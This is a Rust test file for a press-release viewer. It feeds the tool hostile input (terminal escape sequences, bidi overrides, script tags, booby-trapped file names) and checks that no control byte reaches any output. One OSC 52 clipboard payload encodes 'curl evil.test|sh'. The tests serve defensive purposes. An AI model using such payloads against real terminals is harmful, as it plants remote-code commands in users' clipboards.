//! Any bytes in: a useful view or a clear error, never a panic, and nothing from the input drives
//! the terminal.

mod common;

use common::screen::{screen, send};
use crossterm::event::Event;
use irview::release::{self, Encoding, Release};
use irview::tui::app::App;
use std::time::Instant;

fn parse(bytes: &[u8]) -> Release {
    release::parse(bytes, Some("hostile.txt")).expect("text input parses")
}

fn is_unsafe(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// No control character or bidi override anywhere a user can see it, or in the JSON strings.
fn assert_clean(r: &Release) {
    let json = serde_json::to_string(r).expect("json");
    let v: serde_json::Value = serde_json::from_str(&json).expect("valid json");
    fn walk(v: &serde_json::Value) {
        match v {
            serde_json::Value::String(s) => assert!(!s.chars().any(is_unsafe), "unsafe character in {s:?}"),
            serde_json::Value::Array(a) => a.iter().for_each(walk),
            serde_json::Value::Object(o) => o.values().for_each(walk),
            _ => {}
        }
    }
    walk(&v);
}

/// Render at a few sizes and check the screen buffer holds no control characters.
fn assert_renders_clean(r: Release) {
    let mut app = App::new(r, "hostile", common::screen::today(), true);
    for (w, h) in [(120, 40), (80, 24), (40, 10), (20, 5), (1, 1)] {
        send(&mut app, Event::Resize(w, h));
        for p in ["1", "2", "3", "5", "8", "G", "f", "f"] {
            common::screen::keys(&mut app, p);
            let s = screen(&app);
            assert!(!s.chars().any(|c| is_unsafe(c) && c != '\n'), "unsafe character on screen");
        }
    }
}

const ESCAPES: &str =
    "\x1b[2J\x1b[31m\x1b]0;PWNED\x07\x1b]52;c;ZXZpbA==\x07\x1bPq#0;2;0;0;0\x1b\\\u{9b}2J\u{9d}0;x\u{9c}\x07\x08\x08\x00\x7f\u{85}\u{202e}";

#[test]
fn escape_sequences_never_survive() {
    let text = format!(
        "Evil Corp {ESCAPES}Announces Results\n\nEVIL, Ohio--(BUSINESS WIRE)--May 5, 2024--Evil Corp.{ESCAPES} (NYSE: EVL) today said{ESCAPES} revenue rose. Visit http://evil.test/{ESCAPES}x.\n\n\"Great,\" said Jane Doe{ESCAPES}, CEO.\n\nCONTACT: Jane{ESCAPES} Doe, 555-555-1212{ESCAPES}\njane@evil.test{ESCAPES}\n"
    );
    let r = parse(text.as_bytes());
    assert!(!r.text.chars().any(is_unsafe), "{:?}", r.text);
    assert!(r.headline.as_deref().is_some_and(|h| h.contains("Announces")));
    assert_clean(&r);
    assert_renders_clean(r);
    // the same hidden in HTML, as numeric references
    let html = "<html><body><h1>Evil &#27;[2J Corp &#x1b;]0;t&#7;</h1><p>EVIL, Ohio--(BUSINESS WIRE)--May 5, 2024--Evil&#155;2J Corp. said &#8238;txt.exe</p><a href='javascript:alert(1)'>x</a><script>document.write('<p>SCRIPT</p>')</script><style>p{}</style></body></html>";
    let r = parse(html.as_bytes());
    assert!(!r.text.contains("SCRIPT") && !r.text.contains("p{}"), "{:?}", r.text);
    assert_clean(&r);
    assert_renders_clean(r);
}

#[test]
fn empty_blank_and_sectionless_inputs_give_a_view() {
    for input in [
        &b""[..],
        b"   \n\n \t\n",
        b"just some words with no structure at all",
        b"\n\n\n.\n\n",
    ] {
        let r = parse(input);
        assert_clean(&r);
        let panels = irview::tui::view::panels::build(&r);
        assert!(panels.iter().any(|p| !p.is_empty()) || !r.notices.is_empty());
        assert_renders_clean(r);
    }
}

#[test]
fn binary_data_is_refused() {
    let noise: Vec<u8> = (0..8192u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 11) as u8).collect();
    for bytes in [
        &b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"[..],
        b"\xff\xd8\xff\xe0\0\x10JFIF",
        b"PK\x03\x04\x14\0",
        &noise,
    ] {
        assert!(release::parse(bytes, None).is_err());
    }
}

#[test]
fn encodings_are_decoded_and_reported() {
    let body = "ACME, Ohio--(BUSINESS WIRE)--May 5, 2024--Acme Corp. said \u{201c}record\u{201d} revenue.";
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend_from_slice(body.as_bytes());
    assert_eq!(parse(&bom).source.encoding, Encoding::Utf8Bom);
    let le: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(body.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let r = parse(&le);
    assert_eq!(
        (r.source.encoding, r.dateline.date.map(|d| d.to_string()).as_deref()),
        (Encoding::Utf16Le, Some("2024-05-05"))
    );
    let be: Vec<u8> = [0xFE, 0xFF]
        .into_iter()
        .chain(body.encode_utf16().flat_map(u16::to_be_bytes))
        .collect();
    assert_eq!(parse(&be).source.encoding, Encoding::Utf16Be);
    let cp1252 = b"ACME, Ohio--(BUSINESS WIRE)--May 5, 2024--Acme Corp. said \x93record\x94 revenue.";
    let r = parse(cp1252);
    assert_eq!(r.source.encoding, Encoding::Windows1252);
    assert!(r.text.contains('\u{201c}'));
    let mut mixed = body.as_bytes().to_vec();
    mixed.extend_from_slice(b" \xff\xfe bad");
    assert_eq!(parse(&mixed).source.encoding, Encoding::Utf8Lossy);
}

#[test]
fn very_long_line_and_deep_html() {
    let line = "word 1-2-3 $5 May 5, 2024 (555) 555-1212 ".repeat(5_000_000 / 40);
    let t = Instant::now();
    let r = parse(line.as_bytes());
    assert!(t.elapsed().as_secs() < 60, "5 MB line took {:?}", t.elapsed());
    assert_renders_clean(r);
    let deep = "<div>".repeat(100_000) + "<p>deep text</p>" + &"</div>".repeat(100_000);
    let r = parse(deep.as_bytes());
    assert!(r.text.contains("deep text"));
    let broken = "<html><p>unclosed <b>bold <table><tr><td>cell</p></b></html><<<>>>&amp;&nbsp;&bogus; &#99999999; <!-- never closed";
    let r = parse(broken.as_bytes());
    assert!(r.text.contains("cell"));
    assert_clean(&r);
}

#[test]
fn ten_megabytes_of_pathological_patterns_stay_linear() {
    let normal = irview::BUNDLED.repeat(1_000_000 / irview::BUNDLED.len());
    let bad = irview::release::stress::pathological(10_000_000);
    let t = Instant::now();
    let _ = parse(normal.as_bytes());
    let per_mb_normal = t.elapsed().as_secs_f64() / (normal.len() as f64 / 1e6);
    let t = Instant::now();
    let r = parse(bad.as_bytes());
    let per_mb_bad = t.elapsed().as_secs_f64() / (bad.len() as f64 / 1e6);
    assert!(!r.facts.is_empty());
    // The benchmark (benches/load_extract.rs) holds the 3x budget; here a looser bound catches a
    // quadratic regression without failing on a busy machine.
    assert!(
        per_mb_bad < per_mb_normal * 8.0 + 0.05,
        "pathological {per_mb_bad:.3} s/MB vs normal {per_mb_normal:.3} s/MB"
    );
}

#[test]
fn fifo_and_sparse_huge_file() {
    let dir = std::env::temp_dir().join(format!("irview-hostile-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    // A 100 MB file (sparse) is refused by size before it is read.
    let big = dir.join("big.txt");
    std::fs::File::create(&big)
        .and_then(|f| f.set_len(100 * 1024 * 1024))
        .expect("sparse file");
    match irview::library::input::read_input(big.to_str().expect("path"), irview::library::input::DEFAULT_MAX_MIB) {
        Err(e) => assert!(e.to_string().contains("--max-size"), "{e}"),
        Ok(_) => panic!("100 MB accepted under the default limit"),
    }
    // A FIFO is read to its end like a file.
    let fifo = dir.join("pipe");
    if std::process::Command::new("mkfifo").arg(&fifo).status().is_ok_and(|s| s.success()) {
        let writer_path = fifo.clone();
        let writer = std::thread::spawn(move || std::fs::write(writer_path, b"ACME, Ohio--(BUSINESS WIRE)--May 5, 2024--Acme said hi."));
        let bytes = irview::library::input::read_input(fifo.to_str().expect("path"), 1).expect("fifo read");
        writer.join().expect("writer").expect("write fifo");
        assert_eq!(parse(&bytes).dateline.date.map(|d| d.to_string()).as_deref(), Some("2024-05-05"));
    } else {
        eprintln!("mkfifo not available: FIFO case skipped");
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn unreadable_file_is_a_clear_error() {
    use std::os::unix::fs::PermissionsExt;
    let p = std::env::temp_dir().join(format!("irview-unreadable-{}.txt", std::process::id()));
    std::fs::write(&p, b"secret").expect("write");
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o000)).expect("chmod");
    match irview::library::input::read_input(p.to_str().expect("path"), 1) {
        Err(e) => assert_eq!(e.to_string(), "cannot read: permission denied"),
        // root reads anything: nothing to check then
        Ok(_) => eprintln!("running as root: the permission case cannot fail here"),
    }
    let _ = std::fs::remove_file(&p);
}

/// A byte or character no output may carry: C0 controls (tab, newline and, where the format asks
/// for it, carriage return excepted), DEL, C1 controls.
fn forbidden(c: char, allow_cr: bool) -> bool {
    matches!(c, '\0'..='\x08' | '\x0b'..='\x0c' | '\x0e'..='\x1f' | '\x7f' | '\u{80}'..='\u{9f}') || c == '\r' && !allow_cr
}

fn assert_output_clean(what: &str, bytes: &[u8], allow_cr: bool) {
    let s = String::from_utf8_lossy(bytes);
    if let Some(c) = s.chars().find(|c| forbidden(*c, allow_cr)) {
        panic!("{what}: {c:?} in the output:\n{s}");
    }
}

/// Every string of the JSON: no control at all except newline and tab, no C1.
fn assert_json_strings_clean(what: &str, v: &serde_json::Value) {
    match v {
        serde_json::Value::String(s) => assert!(!s.chars().any(|c| forbidden(c, false)), "{what}: {s:?}"),
        serde_json::Value::Array(a) => a.iter().for_each(|x| assert_json_strings_clean(what, x)),
        serde_json::Value::Object(o) => o.values().for_each(|x| assert_json_strings_clean(what, x)),
        _ => {}
    }
}

const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2gK\x07\x1b[8m";

/// Hostile releases whose metadata (not the body) carries escapes, under hostile file names.
fn hostile_files(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let files: Vec<(String, String)> = vec![
        (
            "title.htm".into(),
            "<html><head><title>Q3&#27;]52;c;Y3VybCBldmlsLnRlc3R8c2gK&#7;&#27;[8m</title></head><body></body></html>".into(),
        ),
        (
            "front.md".into(),
            format!(
                "---\ntitle: \"Acme{OSC52} results\"\ndate: 2024-05-05\n---\n\nACME, Ohio--(BUSINESS WIRE)--May 5, 2024--Acme said the call is on May 9, 2024.\n"
            ),
        ),
        (
            "edgar.txt".into(),
            format!(
                "<SEC-DOCUMENT>x\n<SEC-HEADER>\nFILED AS OF DATE:\t\t20040722\nCOMPANY CONFORMED NAME:\t\tACME{OSC52} CORP\n</SEC-HEADER>\n<DOCUMENT>\n<TYPE>8-K\n<SEQUENCE>1\n<TEXT>\nItem 4.02 Non-Reliance on Previously Issued Financial Statements. The call is on May 9, 2024.\n</TEXT>\n</DOCUMENT>\n<DOCUMENT>\n<TYPE>EX-99.1{OSC52}\n<FILENAME>ex{OSC52}.jpg\n<DESCRIPTION>logo{OSC52}\n<TEXT>\nbegin 644 logo.jpg\nM_]C_X``02D9)1@`!\n`\nend\n</TEXT>\n</DOCUMENT>\n</SEC-DOCUMENT>\n"
            ),
        ),
        (
            "new\nline\x1b]0;x\x07.txt".into(),
            "ACME, Ohio--(BUSINESS WIRE)--May 5, 2024--Acme Corp. (NYSE: ACM) will hold its call on May 9, 2024 at 8:30 a.m. ET.\n".into(),
        ),
    ];
    std::fs::create_dir_all(dir).expect("dir");
    files
        .into_iter()
        .map(|(name, body)| {
            let p = dir.join(name);
            std::fs::write(&p, body).expect("write");
            p
        })
        .collect()
}

#[test]
fn no_control_byte_reaches_any_output_mode() {
    let dir = std::env::temp_dir().join(format!("irview-hostile-modes-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let files = hostile_files(&dir);
    let run = |args: &[&std::ffi::OsStr]| {
        let o = std::process::Command::new(env!("CARGO_BIN_EXE_irview"))
            .args(args)
            .env("XDG_CONFIG_HOME", &dir)
            .stdin(std::process::Stdio::null())
            .output()
            .expect("run irview");
        assert!(o.status.code().is_some_and(|c| c == 0 || c == 2), "{args:?}: {:?}", o.status);
        assert_output_clean(&format!("stderr of {args:?}"), &o.stderr, false);
        o.stdout
    };
    let os = |s: &'static str| std::ffi::OsStr::new(s);
    for f in &files {
        let f = f.as_os_str();
        let json = run(&[os("--json"), f]);
        assert_output_clean("--json", &json, false);
        let v: serde_json::Value = serde_json::from_slice(&json).expect("json");
        assert_json_strings_clean("--json", &v);
        // the model itself, through the library
        let bytes = std::fs::read(f).expect("read");
        let r = release::parse(&bytes, Some(&std::path::Path::new(f).to_string_lossy())).expect("parse");
        assert_json_strings_clean("model", &serde_json::to_value(&r).expect("json"));
        let row = irview::library::row::Row::from_release(f.into(), "h".into(), &r, common::screen::today());
        let pending = irview::library::row::Row::pending(f.into());
        for s in [&row.company, &row.ticker, &row.headline, &pending.headline] {
            assert!(!s.chars().any(|c| forbidden(c, false) || c == '\n' || c == '\t'), "list row: {s:?}");
        }
        assert_output_clean("--summary", &run(&[os("--summary"), f]), false);
        assert_output_clean("digest", &run(&[f]), false);
        assert_output_clean("--ics", &run(&[os("--ics"), f]), true);
        assert_renders_clean(r);
    }
    let d = dir.as_os_str();
    let jsonl = run(&[os("--json"), d]);
    assert_output_clean("--json DIR", &jsonl, false);
    for line in String::from_utf8_lossy(&jsonl).lines() {
        assert_json_strings_clean("--json DIR", &serde_json::from_str(line).expect("json line"));
    }
    let rows = run(&[os("--summary"), d]);
    assert_output_clean("--summary DIR", &rows, false);
    let rows = String::from_utf8_lossy(&rows).into_owned();
    assert_eq!(rows.lines().next(), Some(irview::summary::ROW_HEADER), "a header row first");
    assert_eq!(
        rows.lines().count(),
        files.len() + 1,
        "one row per file, whatever its name:\n{rows}"
    );
    assert!(rows.lines().all(|l| l.split('\t').count() == 7), "{rows}");
    assert_output_clean("--ics DIR", &run(&[os("--ics"), d]), true);
    let _ = std::fs::remove_dir_all(&dir);
}
